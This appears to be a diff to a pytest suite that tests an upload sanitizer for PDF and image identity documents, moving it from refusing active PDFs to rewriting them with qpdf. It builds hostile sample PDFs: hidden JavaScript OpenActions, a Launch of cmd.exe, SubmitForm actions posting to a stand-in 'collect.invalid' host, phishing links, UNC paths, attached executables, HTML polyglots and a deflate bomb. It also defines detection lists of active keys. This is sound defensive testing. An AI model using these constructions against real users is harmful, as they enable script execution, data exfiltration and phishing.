@@ -4,8 +4,9 @@ documents (PAN card, bank proof).
 Every file is made here from code. Each one is either refused (422, a message the person can act
 on, what they typed still on the page, and nothing stored: no new row, no new file or folder under
 the storage root), or rewritten: what is stored is a fresh image Pillow made from the pixels, never
-the uploaded bytes, with no metadata and nothing of the payload. A PDF cannot be rewritten, so one
-that passes the checks is kept as uploaded and served only with a fixed type, nosniff and a
+the uploaded bytes, with no metadata and nothing of the payload. A PDF is rewritten too: what is
+stored is the copy qpdf writes, in which no action, script, XFA form or attached file is left
+anywhere (every object is looked at), and it is served only with a fixed type, nosniff and a
 sandboxing Content-Security-Policy.
 
 The corpus shares one app, with one seller for photos and one for documents, because setting up a
@@ -16,6 +17,7 @@ import contextlib
 import functools
 import html
 import io
+import itertools
 import re
 import struct
 import zipfile
@@ -25,7 +27,9 @@ from dataclasses import dataclass
 from pathlib import Path
 from typing import NamedTuple
 
+import pikepdf
 import pytest
+from pikepdf import Array, Dictionary, Name, String
 from PIL import Image
 from sqlalchemy import select
 
@@ -196,6 +200,141 @@ def pdf_encrypted() -> bytes:
     return pdf_with_object_stream(b"", packed=ciphertext, trailer=b"/Encrypt 9 0 R ")
 
 
+def pdf_with_packed_objects(packed: list[list[bytes]], *, catalogue: bytes = b"/OpenAction 4 0 R",
+                            stream_extra: bytes = b"", indirect_filter: bool = False,
+                            unpacked: Callable[[bytes], bytes] = zlib.compress) -> bytes:
+    """A well-formed PDF 1.5, cross-reference stream and all, whose objects from 4 on are kept
+    in compressed object streams (one per group): what a reader finds without repairing anything.
+
+    stream_extra goes into each object stream's dictionary before /Filter; with indirect_filter
+    the /Filter is a reference to an object holding the name. unpacked packs a stream's bytes.
+    """
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>"
+    plain = [b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
+             b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page]
+    number, where, bodies = len(plain) + 1, {}, list(plain)
+    for group in packed:
+        numbers = list(range(number, number + len(group)))
+        number += len(group)
+        starts = itertools.accumulate((len(o) + 1 for o in group[:-1]), initial=0)
+        header = b"".join(b"%d %d " % pair for pair in zip(numbers, starts, strict=True))
+        data = unpacked(header + b"".join(o + b"\n" for o in group))
+        for index, n in enumerate(numbers):
+            where[n] = (number, index)
+        filter_ref = b"%d 0 R" % (number + 1) if indirect_filter else b"/FlateDecode"
+        bodies.append(b"<< /Type /ObjStm /N %d /First %d " % (len(group), len(header))
+                      + stream_extra + b" /Filter " + filter_ref + b" /Length %d >>\nstream\n"
+                      % len(data) + data + b"\nendstream")
+        number += 1
+        if indirect_filter:
+            bodies.append(b"/FlateDecode")
+            number += 1
+    out, offsets = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"), {}
+    plain_numbers = [n for n in range(1, number) if n not in where]
+    for n, body in zip(plain_numbers, bodies, strict=True):
+        offsets[n] = len(out)
+        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
+    offsets[number] = len(out)  # the cross-reference stream itself
+    rows = [struct.pack(">BIH", 0, 0, 65535)] + [
+        struct.pack(">BIH", 2, *where[n]) if n in where else struct.pack(">BIH", 1, offsets[n], 0)
+        for n in range(1, number + 1)]
+    table = b"".join(rows)
+    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
+            % (number, number + 1, len(table)) + table + b"\nendstream\nendobj\n")
+    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % offsets[number])
+
+
+HIDDEN_SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
+
+
+def with_pikepdf(change: Callable[[pikepdf.Pdf], None], *, text: str = "PAN card",
+                 **save) -> bytes:
+    """The one-page specimen PDF, changed by pikepdf and saved by it: a real, valid file."""
+    with pikepdf.open(io.BytesIO(make_pdf(text))) as pdf:
+        change(pdf)
+        out = io.BytesIO()
+        pdf.save(out, **save)
+        return out.getvalue()
+
+
+def action(pdf: pikepdf.Pdf, kind: str, **entries) -> pikepdf.Dictionary:
+    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name("/" + kind), **entries))
+
+
+def script(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
+    return action(pdf, "JavaScript", JS=String("app.alert(1)"))
+
+
+def open_action(kind: str, **entries) -> Callable[[pikepdf.Pdf], None]:
+    def change(pdf: pikepdf.Pdf) -> None:
+        pdf.Root.OpenAction = action(pdf, kind, **entries)
+    return change
+
+
+def page_submits_form(pdf: pikepdf.Pdf) -> None:
+    """The page's /AA: on opening, send the form to a web address; on closing, a script."""
+    submit_form = action(pdf, "SubmitForm", Flags=4,
+                         F=Dictionary(FS=Name.URL, F=String("https://collect.invalid/in")))
+    pdf.pages[0].obj.AA = Dictionary(O=submit_form, C=script(pdf))
+
+
+def xfa_form(pdf: pikepdf.Pdf) -> None:
+    xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
+                          b"<script>app.alert(1)</script></template></xdp:xdp>")
+    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
+    pdf.Root.NeedsRendering = True
+
+
+def javascript_name_tree(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.Names = Dictionary(JavaScript=Dictionary(
+        Names=Array([String("init"), script(pdf)])))
+
+
+def attached_file(pdf: pikepdf.Pdf) -> None:
+    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\0 a program")
+
+
+def attachment_annotation(pdf: pikepdf.Pdf) -> None:
+    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\0 a program", filename="invoice.exe")
+    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
+        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 600, 90, 618]),
+        FS=spec.obj))])
+
+
+def annotations_with_actions(pdf: pikepdf.Pdf) -> None:
+    """Links out, to a share and to a script; a button that sends the form; a movie; and one
+    link within the document, whose go-to chains a script on."""
+    def annotation(subtype: str, **entries) -> pikepdf.Dictionary:
+        return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype),
+                                            Rect=Array([72, 600, 300, 620]), **entries))
+
+    go_to_page = action(pdf, "GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=script(pdf))
+    button = annotation("Widget", FT=Name.Btn, T=String("send"),
+                        A=action(pdf, "SubmitForm", F=String("https://collect.invalid/in")))
+    if "/AcroForm" not in pdf.Root:
+        pdf.Root.AcroForm = Dictionary(Fields=Array())
+    pdf.Root.AcroForm.Fields.append(button)
+    pdf.pages[0].obj.Annots = Array([
+        annotation("Link", A=action(pdf, "URI", URI=String("https://phish.invalid/login"))),
+        annotation("Link", A=action(pdf, "GoToR", F=String("//server/share/statement.pdf"),
+                                    D=Array([0, Name.Fit]))),
+        annotation("Link", A=action(pdf, "Launch", F=String("cmd.exe"))),
+        annotation("Link", A=script(pdf)),
+        button,
+        annotation("Screen", A=action(pdf, "Rendition", JS=String("app.alert(1)"))),
+        annotation("Link", A=go_to_page),
+    ])
+
+
+def pdf_html_polyglot() -> bytes:
+    """A real PDF that a browser sniffing it would also take for a page: HTML in a comment
+    after the header, and after the end of the file."""
+    pdf = make_pdf()
+    header = pdf.index(b"\n") + 1
+    return (pdf[:header] + b"%<html><body><script>alert(1)</script>\n" + pdf[header:]
+            + b"<html><body><script>alert(1)</script></body></html>\n%%EOF\n")
+
+
 HTML_WITH_PDF_HEADER = b"%PDF-1.7\n<html><body><script>alert(1)</script></body></html>\n"
 # The same, with just enough ("obj", "%%EOF") to pass a structural look.
 HTML_DRESSED_AS_PDF = (b"%PDF-1.7\n1 0 obj\n<html><body><script>alert(1)</script></body></html>\n"
@@ -218,7 +357,7 @@ class Rewritten:
     looks: Callable[[Image.Image], None] | None = None  # a check on the stored pixels
 
 
-KEPT = "kept as uploaded"  # a PDF that passed the checks
+CLEANED = "cleaned"  # a PDF written afresh by qpdf, with nothing active left
 MALFORMED = Refused("Something in that request was not right")  # 400, the general error page
 UNREADABLE = Refused("We could not read the text you sent")  # 400, a text field not UTF-8
 
@@ -266,7 +405,8 @@ P_ANIMATED = "Animated images cannot be used."
 D_NOT_DOCUMENT = "This file is not a PDF, JPEG or PNG."
 D_IMAGE_DAMAGED = "This image is damaged or incomplete."
 D_PDF_DAMAGED = "This PDF is damaged or incomplete."
-D_PDF_ACTIVE = "This PDF contains scripts or attachments, which we do not accept."
+D_PDF_ATTACHED = "This PDF has files attached to it, which we do not accept."
+D_PDF_PROTECTED = "This PDF is protected with a password."
 D_TOO_LARGE = "This image is too large"
 
 cached = functools.cache
@@ -366,44 +506,99 @@ CORPUS = [
     Hostile("empty-pdf", "card.pdf", lambda: b"",
             Refused("The file is empty. Choose the photo again."),
             Refused("The file is empty. Choose the document again.")),
-    # PDFs: kept as uploaded when they pass, so what they may carry is checked
+    # PDFs: what a reader would run or fetch is taken out, and qpdf's fresh copy is stored
     Hostile("pdf-openaction-javascript", "card.pdf",
             cached(lambda: pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
-            Refused(P_NOT_IMAGE), Refused(D_PDF_ACTIVE)),
+            Refused(P_NOT_IMAGE), CLEANED),
     Hostile("pdf-javascript-hidden-by-name-escapes", "card.pdf",
             cached(lambda: pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")),
-            Refused(P_NOT_IMAGE), Refused(D_PDF_ACTIVE)),
+            Refused(P_NOT_IMAGE), CLEANED),
     Hostile("pdf-launch-action", "card.pdf",
             cached(lambda: pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
-            Refused(P_NOT_IMAGE), Refused(D_PDF_ACTIVE)),
-    Hostile("pdf-embedded-files-name-tree", "card.pdf",
-            cached(lambda: pdf_with(b"/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>")),
-            Refused(P_NOT_IMAGE), Refused(D_PDF_ACTIVE)),
+            Refused(P_NOT_IMAGE), CLEANED),
+    # Repaired by qpdf (no cross-reference table), which then finds no object stream: the
+    # script is not in the copy.
     Hostile("pdf-javascript-in-compressed-object-stream", "card.pdf",
-            cached(lambda: pdf_with_object_stream(SCRIPT_ACTION)),
-            Refused(P_NOT_IMAGE), Refused(D_PDF_ACTIVE)),
+            cached(lambda: pdf_with_object_stream(SCRIPT_ACTION)), Refused(P_NOT_IMAGE), CLEANED),
     Hostile("pdf-javascript-behind-a-false-endstream", "card.pdf",
-            cached(pdf_script_behind_a_false_endstream),
-            Refused(P_NOT_IMAGE), Refused(D_PDF_ACTIVE)),
+            cached(pdf_script_behind_a_false_endstream), Refused(P_NOT_IMAGE), CLEANED),
     Hostile("pdf-javascript-claiming-encryption", "card.pdf",
             cached(lambda: pdf_with_object_stream(SCRIPT_ACTION, trailer=b"/Encrypt 9 0 R ")),
-            Refused(P_NOT_IMAGE), Refused(D_PDF_ACTIVE)),
+            Refused(P_NOT_IMAGE), CLEANED),
+    # A reader finds these scripts (test_the_hidden_pdf_scripts_are_what_a_reader_runs); the
+    # regular expressions that looked for them did not.
+    Hostile("pdf-javascript-in-object-stream-behind-3000-bytes-of-padding", "card.pdf",
+            cached(lambda: pdf_with_packed_objects(
+                [[HIDDEN_SCRIPT]], stream_extra=b"/Padding (" + b"x" * 3000 + b")")),
+            Refused(P_NOT_IMAGE), CLEANED),
+    Hostile("pdf-javascript-in-object-stream-with-indirect-filter", "card.pdf",
+            cached(lambda: pdf_with_packed_objects([[HIDDEN_SCRIPT]], indirect_filter=True)),
+            Refused(P_NOT_IMAGE), CLEANED),
     Hostile("pdf-object-stream-deflate-bomb", "card.pdf",
-            cached(lambda: pdf_with_object_stream(b"6 0 " + b" " * (40 << 20))),
+            cached(lambda: pdf_with_packed_objects(
+                [[b" " * (40 << 20) + HIDDEN_SCRIPT]], unpacked=lambda raw: zlib.compress(raw, 9))),
             Refused(P_NOT_IMAGE), Refused(D_PDF_DAMAGED)),
-    # What is encrypted cannot be read here (a bank statement with an owner password is like
-    # this): it is kept, and the sandbox is what protects whoever opens it.
-    Hostile("pdf-encrypted-object-stream", "card.pdf", cached(pdf_encrypted),
-            Refused(P_NOT_IMAGE), KEPT),
-    # Opening at the first page is not a script: such a PDF is fine.
+    Hostile("pdf-openaction-uri", "card.pdf",
+            cached(lambda: with_pikepdf(open_action("URI", URI=String("https://phish.invalid")))),
+            Refused(P_NOT_IMAGE), CLEANED),
+    Hostile("pdf-openaction-gotor-unc-path", "card.pdf",
+            cached(lambda: with_pikepdf(open_action(
+                "GoToR", F=String("//server/share/statement.pdf"), D=Array([0, Name.Fit])))),
+            Refused(P_NOT_IMAGE), CLEANED),
+    Hostile("pdf-openaction-launch", "card.pdf",
+            cached(lambda: with_pikepdf(open_action(
+                "Launch", Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))))),
+            Refused(P_NOT_IMAGE), CLEANED),
+    Hostile("pdf-page-aa-submitform", "card.pdf", cached(lambda: with_pikepdf(page_submits_form)),
+            Refused(P_NOT_IMAGE), CLEANED),
+    Hostile("pdf-xfa-form", "card.pdf", cached(lambda: with_pikepdf(xfa_form)),
+            Refused(P_NOT_IMAGE), CLEANED),
+    Hostile("pdf-javascript-name-tree", "card.pdf",
+            cached(lambda: with_pikepdf(javascript_name_tree)), Refused(P_NOT_IMAGE), CLEANED),
+    Hostile("pdf-annotations-with-actions", "card.pdf",
+            cached(lambda: with_pikepdf(annotations_with_actions)), Refused(P_NOT_IMAGE), CLEANED),
+    # Everything above again, written by pikepdf into object streams.
+    Hostile("pdf-every-action-in-object-streams", "card.pdf",
+            cached(lambda: with_pikepdf(
+                lambda pdf: [change(pdf) for change in (
+                    open_action("JavaScript", JS=String("app.alert(1)")), page_submits_form,
+                    xfa_form, javascript_name_tree, annotations_with_actions)],
+                object_stream_mode=pikepdf.ObjectStreamMode.generate)),
+            Refused(P_NOT_IMAGE), CLEANED),
+    # Attached files are refused, as they were: the seller meant them to be read.
+    Hostile("pdf-embedded-files-name-tree", "card.pdf",
+            cached(lambda: pdf_with(b"/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>")),
+            Refused(P_NOT_IMAGE), Refused(D_PDF_ATTACHED)),
+    Hostile("pdf-attached-file", "card.pdf", cached(lambda: with_pikepdf(attached_file)),
+            Refused(P_NOT_IMAGE), Refused(D_PDF_ATTACHED)),
+    Hostile("pdf-file-attachment-annotation", "card.pdf",
+            cached(lambda: with_pikepdf(attachment_annotation)),
+            Refused(P_NOT_IMAGE), Refused(D_PDF_ATTACHED)),
+    # What is encrypted is refused, whether it needs a password to open or only to change it (a
+    # bank statement is often like that); a claim of encryption qpdf cannot read is not one.
+    Hostile("pdf-encrypted-with-owner-password", "card.pdf",
+            cached(lambda: with_pikepdf(lambda pdf: None,
+                                        encryption=pikepdf.Encryption(owner="bank", user=""))),
+            Refused(P_NOT_IMAGE), Refused(D_PDF_PROTECTED)),
+    Hostile("pdf-encrypted-with-user-password", "card.pdf",
+            cached(lambda: with_pikepdf(lambda pdf: None,
+                                        encryption=pikepdf.Encryption(owner="bank", user="dob"))),
+            Refused(P_NOT_IMAGE), Refused(D_PDF_PROTECTED)),
+    Hostile("pdf-claiming-encryption-it-does-not-have", "card.pdf", cached(pdf_encrypted),
+            Refused(P_NOT_IMAGE), CLEANED),
+    # Opening at the first page is not a script, but it goes too: a copy opens at page one.
     Hostile("pdf-openaction-go-to-first-page", "card.pdf",
-            cached(lambda: pdf_with(b"/OpenAction [3 0 R /Fit]")), Refused(P_NOT_IMAGE), KEPT),
+            cached(lambda: pdf_with(b"/OpenAction [3 0 R /Fit]")), Refused(P_NOT_IMAGE), CLEANED),
+    # Polyglots: HTML before the header is not a PDF; HTML inside or after one does not survive
+    # the rewriting.
+    Hostile("html-before-a-pdf-header", "card.pdf", cached(lambda: SCRIPT + b"\n" + make_pdf()),
+            Refused(P_NOT_IMAGE), Refused(D_NOT_DOCUMENT)),
+    Hostile("pdf-html-polyglot", "card.pdf", cached(pdf_html_polyglot),
+            Refused(P_NOT_IMAGE), CLEANED),
     Hostile("html-with-a-pdf-header", "card.pdf", lambda: HTML_WITH_PDF_HEADER,
             Refused(P_NOT_IMAGE), Refused(D_PDF_DAMAGED)),
-    # Not refused: it is kept, and served as application/pdf with nosniff and a sandbox, so a
-    # browser never treats it as a page.
     Hostile("html-dressed-as-pdf", "card.pdf", lambda: HTML_DRESSED_AS_PDF,
-            Refused(P_NOT_IMAGE), KEPT),
+            Refused(P_NOT_IMAGE), Refused(D_PDF_DAMAGED)),
     Hostile("pdf-truncated", "card.pdf", cached(lambda: make_pdf()[:-60]),
             Refused(P_NOT_IMAGE), Refused(D_PDF_DAMAGED)),
     Hostile("pdf-named-jpg", "card.jpg", cached(make_pdf),
@@ -524,6 +719,59 @@ def assert_clean_image(data: bytes, uploaded: bytes, fmt: str,
     return image
 
 
+ACTIVE_KEYS = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF", "/XFA"}
+ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/GoToR", "/GoToE", "/URI",
+                  "/ImportData", "/Rendition"}
+
+
+def active_content(pdf: pikepdf.Pdf) -> list[str]:
+    """Every action, script, XFA form or attached file anywhere in the document: each object,
+    and every dictionary and array inside it, is looked at."""
+    found, seen = [], set()
+    stack = [pdf.trailer, *(o for o in pdf.objects if isinstance(o, (Array, Dictionary,
+                                                                     pikepdf.Stream)))]
+    while stack:
+        item = stack.pop()
+        if item.is_indirect:
+            if item.objgen in seen:
+                continue
+            seen.add(item.objgen)
+        values = list(item) if isinstance(item, Array) else [item.get(k) for k in item.keys()]
+        if not isinstance(item, Array):
+            found += [f"{key} in {item.objgen}" for key in item.keys() if key in ACTIVE_KEYS]
+            if str(item.get("/S")) in ACTIVE_ACTIONS:
+                found.append(f"a {item.get('/S')} action in {item.objgen}")
+        stack += [v for v in values if isinstance(v, (Array, Dictionary, pikepdf.Stream))]
+    return found
+
+
+def assert_clean_pdf(stored: bytes, uploaded: bytes) -> None:
+    """A fresh PDF, with the upload's pages and nothing active left anywhere."""
+    assert stored != uploaded, "the uploaded bytes were stored as they came"
+    assert not [marker for marker in PAYLOAD if marker in stored]
+    with pikepdf.open(io.BytesIO(uploaded)) as before:
+        pages = len(before.pages)
+    with pikepdf.open(io.BytesIO(stored)) as pdf:
+        assert not pdf.is_encrypted
+        assert len(pdf.pages) == pages
+        assert active_content(pdf) == []
+
+
+HIDING = ["pdf-javascript-in-object-stream-behind-3000-bytes-of-padding",
+          "pdf-javascript-in-object-stream-with-indirect-filter"]
+
+
+@pytest.mark.parametrize("name", HIDING)
+def test_the_hidden_pdf_scripts_are_what_a_reader_runs(name):
+    """The corpus is honest: a reader opens these without repairing them, and finds the script."""
+    (item,) = [item for item in CORPUS if item.id == name]
+    with pikepdf.open(io.BytesIO(item.make())) as pdf:
+        assert pdf.get_warnings() == []
+        assert pdf.Root.OpenAction.S == Name.JavaScript
+        assert pdf.Root.OpenAction.JS == "app.alert(1)"
+        assert any(entry.type == 2 for entry in pdf.get_xref_table().values())
+
+
 # ---------------------------------------------------------------------------------------------
 # Photos: /seller/listings/<id>/photos
 
@@ -635,8 +883,9 @@ def test_a_hostile_document_is_refused_or_rewritten(site, item, section, request
     new = storage_tree(app) - tree
     assert new == {f"private/{key}"}, f"stray files: {new}"
     stored = app.extensions["storage"]["private"].read(key)
-    if item.document == KEPT:
-        assert content_type == "application/pdf" and stored == data
+    if item.document == CLEANED:
+        assert content_type == "application/pdf"
+        assert_clean_pdf(stored, data)
     else:
         fmt = item.document.format
         assert content_type == f"image/{fmt.lower()}"
